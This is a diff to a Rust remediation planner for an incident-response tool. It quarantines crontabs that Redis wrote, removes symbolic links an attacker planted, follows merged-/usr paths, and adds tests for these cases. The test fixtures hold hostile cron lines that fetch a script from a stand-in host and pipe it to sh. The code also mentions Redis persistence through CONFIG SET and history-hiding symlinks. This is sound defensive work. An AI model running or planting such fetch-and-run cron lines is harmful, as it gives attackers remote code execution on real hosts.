@@ -3,6 +3,14 @@
 //! narrowest action that undoes it — a line rather than a file, an entry rather than a key file — with
 //! the identity the snapshot recorded, or a note for the responder when the snapshot cannot pin it down
 //! safely. Shared system files are never removed whole, pid 1 and the collector are never signalled.
+//!
+//! - A file Redis wrote (RDB header) is the dump's from its first byte to its last: it is quarantined
+//!   whole even under a shared file's name (a crontab, `authorized_keys`), and its lines are not edited.
+//! - A symbolic link the attacker planted (`~/.bash_history -> /dev/null`) is removed while it is still
+//!   the snapshot's link (same device, inode and target); links in system directories never are.
+//! - Paths follow merged-`/usr` aliases to the record the snapshot holds (`/lib/x` is `/usr/lib/x`).
+//! - A file in a system directory no package check covers is planned as a reinstall; the script removes
+//!   it instead (after its evidence copy) when the host's package database says no package owns it.
 
 use std::collections::{BTreeMap, BTreeSet};
 use std::net::IpAddr;
@@ -16,7 +24,8 @@ use minetrace_schemas::RawBytes;
 use super::edit;
 use super::firewall;
 use super::plan::{
-    Action, FileTarget, LineKind, LineRemoval, Plan, PlanItem, ProcessTarget, Recommendation,
+    Action, FileTarget, LineKind, LineRemoval, LinkTarget, Plan, PlanItem, ProcessTarget,
+    Recommendation,
 };
 use crate::model::HostModel;
 use crate::parse::authorized_keys::{self, AuthorizedKey};
@@ -144,6 +153,43 @@ fn file_target(f: &FileRecord) -> Result<FileTarget, &'static str> {
     })
 }
 
+/// A symbolic link the attacker planted, when it is safe to remove: an absolute path at least two levels
+/// deep, outside the system directories (where links belong to packages and merged `/usr`), never a
+/// shared file's name, with a target the snapshot read.
+fn link_target(f: &FileRecord) -> Result<LinkTarget, &'static str> {
+    let path = f.path.as_bytes();
+    let target = f
+        .link_target
+        .as_ref()
+        .filter(|t| !t.as_bytes().is_empty() && !t.as_bytes().contains(&0))
+        .ok_or("a symbolic link whose target the snapshot did not read")?;
+    if !path.starts_with(b"/") || path.contains(&0) {
+        return Err("not an absolute path");
+    }
+    let depth = path.split(|b| *b == b'/').filter(|c| !c.is_empty()).count();
+    if depth < 2 || in_system_dir(path) || path.starts_with(b"/usr/") {
+        return Err("a symbolic link in a system directory is never removed");
+    }
+    if is_shared_file(path) {
+        return Err("a symbolic link named like a shared file: review it by hand");
+    }
+    Ok(LinkTarget {
+        path: f.path.clone(),
+        dev: f.dev,
+        ino: f.ino,
+        target: target.clone(),
+    })
+}
+
+/// A file Redis wrote (`CONFIG SET dir` + `dbfilename` + `SAVE`): it starts with an RDB header, so every
+/// byte of it is the dump's and none is its owner's; it is quarantined whole even where the name is that
+/// of a shared file (a crontab, `authorized_keys`).
+fn is_redis_dump(model: &HostModel, f: &FileRecord) -> bool {
+    model
+        .content(f)
+        .is_some_and(crate::parse::cron::is_redis_rdb)
+}
+
 /// What a whole file subject becomes.
 enum FileFate {
     Unit(String),
@@ -162,6 +208,8 @@ struct Collect {
     procs: BTreeMap<(i32, u64), (ProcessTarget, Vec<String>)>,
     /// Whole files by path.
     files: BTreeMap<Vec<u8>, (FileTarget, Vec<String>, FileFate)>,
+    /// Symbolic links to remove, by path.
+    links: BTreeMap<Vec<u8>, (LinkTarget, Vec<String>)>,
     /// Lines to remove, by path then line number.
     lines: BTreeMap<Vec<u8>, WantedLines>,
     endpoints: BTreeMap<(IpAddr, u16), Vec<String>>,
@@ -215,9 +263,25 @@ impl Collect {
 
     fn whole_file(&mut self, model: &HostModel, path: &RawBytes, why: &str) {
         let label = format!("file {}", path.escaped());
-        let target = match model.file(path.as_bytes()) {
+        let mut dump = false;
+        let target = match model.file_aliased(path.as_bytes()) {
+            Some(f) if f.kind == FileKind::Symlink => {
+                return match link_target(f) {
+                    Ok(t) => {
+                        let entry = self
+                            .links
+                            .entry(t.path.0.clone())
+                            .or_insert_with(|| (t, Vec::new()));
+                        add_why(&mut entry.1, why);
+                    }
+                    Err(reason) => self.manual(label, reason),
+                };
+            }
             Some(f) => match file_target(f) {
-                Ok(t) => t,
+                Ok(t) => {
+                    dump = is_redis_dump(model, f);
+                    t
+                }
                 Err(reason) => return self.manual(label, reason),
             },
             None => {
@@ -246,32 +310,36 @@ impl Collect {
                 }
             }
         };
-        let fate = if let Some(unit) = unit_name(path.as_bytes()) {
+        // Decided on the name the snapshot recorded (merged-/usr aliases followed).
+        let recorded = target.path.clone();
+        let fate = if let Some(unit) = unit_name(recorded.as_bytes()) {
             FileFate::Unit(unit)
-        } else if is_shared_file(path.as_bytes()) {
+        } else if dump {
+            FileFate::Quarantine
+        } else if is_shared_file(recorded.as_bytes()) {
             return self.manual(
                 label,
                 "a shared file is never removed whole (flagged lines in it are removed one by one)",
             );
         } else {
-            let pkg = model.packages.iter().find(|p| p.path == *path);
+            let pkg = model.package_check(recorded.as_bytes());
             match pkg.map(|p| (p.verdict, p.package.clone())) {
                 Some((PackageVerdict::Mismatch, name)) => FileFate::Reinstall(name),
                 Some((PackageVerdict::Match, _)) => {
                     return self
                         .manual(label, "identical to its package's copy; review the finding")
                 }
-                Some((PackageVerdict::NoDigest, name)) if in_system_dir(path.as_bytes()) => {
+                Some((PackageVerdict::NoDigest, name)) if in_system_dir(recorded.as_bytes()) => {
                     FileFate::Reinstall(name)
                 }
                 Some((PackageVerdict::NotOwned, _)) => FileFate::Quarantine,
-                _ if in_system_dir(path.as_bytes()) => FileFate::Reinstall(None),
+                _ if in_system_dir(recorded.as_bytes()) => FileFate::Reinstall(None),
                 _ => FileFate::Quarantine,
             }
         };
         let entry = self
             .files
-            .entry(path.0.clone())
+            .entry(target.path.0.clone())
             .or_insert_with(|| (target, Vec::new(), fate));
         add_why(&mut entry.1, why);
     }
@@ -577,6 +645,9 @@ pub fn build(model: &HostModel, doc: &FindingsDocument) -> Plan {
     persistence.extend(unit_items);
     persistence.extend(edit_items);
     persistence.extend(file_items);
+    for (target, why) in c.links.values() {
+        persistence.push((Action::RemoveLink(target.clone()), why.clone()));
+    }
     for (a, why) in persistence {
         push(a, why);
     }
@@ -677,6 +748,158 @@ pub fn build(model: &HostModel, doc: &FindingsDocument) -> Plan {
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::detect::finding::{file_subject, finding, persistence_subject, FindingExt};
+    use crate::model::fixture;
+    use minetrace_schemas::findings::Verdict;
+
+    fn doc(findings: Vec<Finding>) -> FindingsDocument {
+        FindingsDocument {
+            schema: "minetrace.findings/1".into(),
+            verdict: Verdict::Compromised,
+            tampered: false,
+            bundle_sha256: String::new(),
+            host: Default::default(),
+            analyzer_version: "test".into(),
+            findings,
+        }
+    }
+
+    const RDB_CRONTAB: &[u8] =
+        b"REDIS0009\xfa\x09redis-ver\x056.0.16\xfe\x00\n\n*/1 * * * * curl -fsSL http://127.66.3.1/cr.sh | sh\n\n\xff";
+
+    #[test]
+    fn redis_dumps_are_quarantined_whole_other_shared_files_lose_lines() {
+        let model = fixture::model(
+            vec![
+                fixture::file(b"/var/spool/cron/crontabs/root", Some(RDB_CRONTAB)),
+                fixture::file(
+                    b"/var/spool/cron/crontabs/ops",
+                    Some(b"17 3 * * * /usr/local/sbin/backup.sh\n* * * * * curl http://x/y | sh\n"),
+                ),
+            ],
+            vec![],
+        );
+        let rdb = model
+            .file(b"/var/spool/cron/crontabs/root")
+            .expect("record")
+            .clone();
+        let ops = model
+            .file(b"/var/spool/cron/crontabs/ops")
+            .expect("record")
+            .clone();
+        let findings = vec![
+            finding("MT-PER-002", Severity::Critical, "rdb")
+                .subject(file_subject(&rdb))
+                .subject(persistence_subject(&rdb.path, 4)),
+            finding("MT-PER-001", Severity::High, "cron")
+                .subject(file_subject(&ops))
+                .subject(persistence_subject(&ops.path, 2)),
+        ];
+        let plan = build(&model, &doc(findings));
+        let quarantined: Vec<&[u8]> = plan
+            .items
+            .iter()
+            .filter_map(|i| match &i.action {
+                Action::QuarantineFile { file, .. } => Some(file.path.as_bytes()),
+                _ => None,
+            })
+            .collect();
+        assert_eq!(quarantined, vec![&b"/var/spool/cron/crontabs/root"[..]]);
+        let edited: Vec<(&[u8], Vec<u32>)> = plan
+            .items
+            .iter()
+            .filter_map(|i| match &i.action {
+                Action::RemoveLines { file, lines, .. } => Some((
+                    file.path.as_bytes(),
+                    lines.iter().map(|l| l.number).collect(),
+                )),
+                _ => None,
+            })
+            .collect();
+        assert_eq!(
+            edited,
+            vec![(&b"/var/spool/cron/crontabs/ops"[..], vec![2])]
+        );
+        assert!(plan
+            .manual
+            .iter()
+            .any(|m| m.contains("crontabs/ops") && m.contains("shared file")));
+    }
+
+    #[test]
+    fn attacker_symlinks_are_removed_system_links_never() {
+        let model = fixture::model(
+            vec![
+                fixture::symlink(b"/root/.bash_history", b"/dev/null"),
+                fixture::symlink(b"/bin", b"usr/bin"),
+                fixture::symlink(b"/usr/lib/x/y", b"/dev/null"),
+                fixture::symlink(b"/home/a/.ssh/authorized_keys", b"/dev/null"),
+            ],
+            vec![],
+        );
+        let subjects = [
+            &b"/root/.bash_history"[..],
+            b"/bin",
+            b"/usr/lib/x/y",
+            b"/home/a/.ssh/authorized_keys",
+        ];
+        let mut f = finding("MT-EVA-010", Severity::Medium, "history");
+        for p in subjects {
+            f = f.subject(file_subject(model.file(p).expect("record")));
+        }
+        let plan = build(&model, &doc(vec![f]));
+        let links: Vec<&LinkTarget> = plan
+            .items
+            .iter()
+            .filter_map(|i| match &i.action {
+                Action::RemoveLink(l) => Some(l),
+                _ => None,
+            })
+            .collect();
+        assert_eq!(links.len(), 1, "{:?}", plan.items);
+        assert_eq!(links[0].path.as_bytes(), b"/root/.bash_history");
+        assert_eq!(links[0].target.as_bytes(), b"/dev/null");
+        assert_eq!(plan.manual.len(), 3, "{:?}", plan.manual);
+    }
+
+    #[test]
+    fn merged_usr_names_reach_the_recorded_file_and_its_package_check() {
+        use minetrace_schemas::records::package::PackageCheck;
+        let check = PackageCheck {
+            path: b"/lib/libgcwrap.so".as_slice().into(),
+            reason: "preload".into(),
+            listed_as: None,
+            manager: None,
+            package: None,
+            expected_md5: None,
+            actual_md5: None,
+            actual_sha256: None,
+            size: None,
+            verdict: PackageVerdict::NotOwned,
+            error: None,
+        };
+        let model = fixture::model(
+            vec![
+                fixture::symlink(b"/lib", b"usr/lib"),
+                fixture::file(b"/usr/lib/libgcwrap.so", Some(b"\x7fELF lib")),
+            ],
+            vec![check],
+        );
+        let f = finding("MT-PER-040", Severity::Critical, "preload").subject(Subject::File {
+            path: b"/lib/libgcwrap.so".as_slice().into(),
+            sha256: None,
+        });
+        let plan = build(&model, &doc(vec![f]));
+        let q: Vec<&[u8]> = plan
+            .items
+            .iter()
+            .filter_map(|i| match &i.action {
+                Action::QuarantineFile { file, .. } => Some(file.path.as_bytes()),
+                _ => None,
+            })
+            .collect();
+        assert_eq!(q, vec![&b"/usr/lib/libgcwrap.so"[..]], "{:?}", plan.items);
+    }
 
     #[test]
     fn unit_names_and_shared_files() {
